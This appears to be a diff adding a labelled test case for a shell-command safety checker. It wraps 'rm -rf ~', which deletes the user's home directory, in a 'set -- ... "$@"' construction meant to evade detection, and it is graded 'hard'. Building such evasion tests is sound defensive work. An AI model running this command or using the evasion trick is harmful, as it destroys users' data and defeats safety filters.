@@ -1,0 +1,4 @@
+# evasion: set -- then "$@"
+# grade: hard; does: rm-rf
+set -- rm -rf ~
+"$@"
